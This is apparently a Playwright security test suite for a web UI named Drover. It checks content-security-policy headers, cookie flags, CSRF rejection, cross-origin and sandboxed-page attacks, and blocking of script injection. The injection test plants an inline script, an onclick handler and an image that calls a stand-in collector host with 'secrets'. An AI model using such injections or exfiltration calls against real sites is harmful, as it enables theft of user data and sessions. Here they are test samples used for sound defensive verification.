// Checks headers, cookies and the policy of each page, and attacks the UI.
import { clusters, env, equal, flawless, forgive, open, see, signIn, test, truth, until } from './harness.mjs';
import { pagesOf, visit } from './pages.mjs';

const url = env('URL');

async function headers(page) {
  const response = await page.goto(clusters());
  const policy = response.headers()['content-security-policy'];
  for (const rule of ["default-src 'none'", "script-src 'self';", "frame-ancestors 'none'", "form-action 'none'"])
    truth(`the policy has ${rule}`, policy.includes(rule), policy);
  truth('the policy allows nothing unsafe', !/unsafe|\*|https?:/.test(policy), policy);
  equal('caching of the page', response.headers()['cache-control'], 'no-store');
  equal('sniffing', response.headers()['x-content-type-options'], 'nosniff');
  equal('referrers', response.headers()['referrer-policy'], 'no-referrer');
  const nonce = (text) => /'nonce-([^']+)'/.exec(text)[1];
  const other = (await page.request.get(`${url}/ui/clusters`)).headers()['content-security-policy'];
  truth('each answer has its own nonce', nonce(policy) !== nonce(other), policy);
}

async function cookies(page) {
  const all = await page.context().cookies();
  equal('the number of cookies', all.length > 0, true);
  for (const { httpOnly, secure, sameSite, path, value } of all) {
    equal(
      'attributes of the cookie',
      { httpOnly, secure, sameSite, path },
      { httpOnly: true, secure: true, sameSite: 'Strict', path: '/ui/' },
    );
    truth('the cookie does not show the token', !value.includes(env('TOKEN')));
  }
  equal('cookies that a script sees', await page.evaluate(() => document.cookie), '');
}

/** Runs a request in the page and returns its status. */
const status = (page, path, init) =>
  page.evaluate(async ([path, init]) => (await fetch(path, init)).status, [path, init]);

async function forgery(page) {
  const session = '/ui/api/v1/session';
  equal('signing out without proof', await status(page, session, { method: 'DELETE' }), 403);
  const wrong = { 'X-Drover-CSRF': 'wrong' };
  equal('signing out with another proof', await status(page, session, { method: 'DELETE', headers: wrong }), 403);
  const preview = `/ui/api/v1/namespaces/${env('NAMESPACE')}/clusters/demo/preview`;
  equal('a preview without proof', await status(page, preview, { method: 'POST', body: '{}' }), 403);
  equal('the session', await status(page, session), 200);
}

async function injection(page) {
  const before = await page.evaluate(() => window.violations.length);
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'window.injected = true';
    document.body.append(script);
    const image = document.createElement('img');
    image.src = 'https://collector.example.test/?secrets';
    document.body.append(image);
    document.body.insertAdjacentHTML('beforeend', '<b onclick="window.injected = true" id="trap">trap</b>');
    document.getElementById('trap').click();
  });
  await until('the policy stops three injections', async () => {
    const count = (await page.evaluate(() => window.violations.length)) - before;
    return count >= 3 ? '' : `${count} violations`;
  });
  equal('an injected script ran', await page.evaluate(() => window.injected), undefined);
  forgive();
}

/**
 * Records the answers of Drover's endpoints that a page gets. The browser hides most of them from the page and from
 * playwright, so this listens to the debugger.
 */
async function answers(page) {
  const all = [];
  const requests = new Map();
  const debug = await page.context().newCDPSession(page);
  debug.on('Network.requestWillBeSent', ({ requestId, request }) => requests.set(requestId, request));
  debug.on('Network.responseReceivedExtraInfo', ({ requestId, statusCode }) => {
    const request = requests.get(requestId);
    if (request?.url.includes('/ui/api/'))
      all.push(`${request.method} ${new URL(request.url).pathname} ${statusCode}`);
  });
  await debug.send('Network.enable');
  return all;
}

/** Requests that a script sends: with cookies, without waiting for permission of the other side. */
const attempts = (page) =>
  page.evaluate(async (url) => {
    const results = [];
    const session = `${url}/ui/api/v1/session`;
    const send = async (init) => {
      try {
        const response = await fetch(session, { credentials: 'include', ...init });
        results.push(`read ${response.type} ${response.status}`);
      } catch {
        results.push('error');
      }
    };
    await send({});
    await send({ mode: 'no-cors' });
    await send({ mode: 'no-cors', method: 'POST', body: '{"token":"x"}' });
    await send({ method: 'DELETE', headers: { 'X-Drover-CSRF': 'x' } });
    return results;
  }, url);

/** Fails if an endpoint answered an attack with anything but a refusal. A preflight is no request yet. */
function refused(what, all, results) {
  truth(
    `the browser sent requests for ${what}`,
    all.some((a) => a.startsWith('GET')),
    results.join(', '),
  );
  truth(
    `the browser sent a POST for ${what}`,
    all.some((a) => a.startsWith('POST')),
    all.join(', '),
  );
  equal(
    `answers to ${what}`,
    all.filter((a) => !/ (401|403)$/.test(a) && !/^OPTIONS .* 404$/.test(a)),
    [],
  );
  equal(
    `what ${what} reads`,
    results.filter((result) => result !== 'error' && result !== 'read opaque 0'),
    [],
  );
}

async function fromForeignPage(context) {
  const page = await context.newPage();
  const all = await answers(page);
  await page.goto(env('FOREIGN'));
  const results = await attempts(page);
  refused('a page of another origin', all, results);
  const frame = page.frames().find((f) => f !== page.mainFrame());
  truth('another origin shows the UI in a frame', !(await frame.content()).includes('id="root"'), frame.url());
  await page.close();
}

async function fromCluster(context) {
  const page = await context.newPage();
  // A browser sends no token to a cluster by itself, so this adds one to the page alone.
  await page.route(
    (to) => to.pathname.startsWith('/k8s/'),
    (route) => route.continue({ headers: { ...route.request().headers(), authorization: `Bearer ${env('TOKEN')}` } }),
  );
  const all = await answers(page);
  const response = await page.goto(url + env('ATTACK'));
  equal('the status of the page from the cluster', response.status(), 200);
  truth('the page is in a sandbox', response.headers()['content-security-policy'].includes('sandbox'));
  equal('the title, which a script would change', await page.title(), 'attack');
  await page.getByRole('button', { name: 'Send' }).click();
  // The debugger runs scripts even in a sandbox. This shows what a page could do if it got out.
  const results = await attempts(page);
  refused('a page from a cluster', all, results);
  for (const frame of page.frames().filter((f) => f !== page.mainFrame()))
    truth('the page from the cluster shows Drover', !(await frame.content()).includes('id="root"'), frame.url());
  await page.close();
}

await test(async (browser) => {
  const page = await open(browser);
  await headers(page);
  await signIn(page, env('TOKEN'));
  await see(page.getByRole('link', { name: 'demo', exact: true }));
  await cookies(page);
  for (const each of pagesOf(env('NAMESPACE'), 'demo')) {
    await visit(page, url, each);
    await flawless(page);
  }
  await page.getByRole('button', { name: /^Colours/ }).click();
  await page.getByRole('menuitem', { name: 'Dark' }).click();
  await flawless(page);
  await forgery(page);
  await fromForeignPage(page.context());
  await fromCluster(page.context());
  await page.reload();
  await see(page.getByRole('navigation', { name: 'Pages' }));
  await flawless(page);
  await injection(page);
});
